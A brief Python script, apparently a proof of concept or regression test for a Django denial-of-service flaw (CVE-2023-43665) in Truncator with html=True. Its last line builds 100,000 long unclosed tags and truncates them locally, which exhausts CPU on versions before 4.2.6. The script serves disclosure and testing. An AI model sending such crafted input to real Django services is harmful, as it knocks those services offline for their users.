# PYSEC-2023-226 (CVE-2023-43665): Django before 4.2.6, Truncator.chars()/words() with html=True process input of
# any length; 4.2.6 truncates it to MAX_LENGTH_HTML (5,000,000 characters) first. Every unclosed tag is inserted
# at the front of a list (quadratic in the number of tags): 100,000 tags take far longer than the 5,000 of them
# the fixed version keeps.
from django.conf import settings

settings.configure(USE_I18N=False)
from django.utils.text import Truncator  # noqa: E402

Truncator(("<" + "a" * 998 + ">") * 100_000).chars(10, html=True)
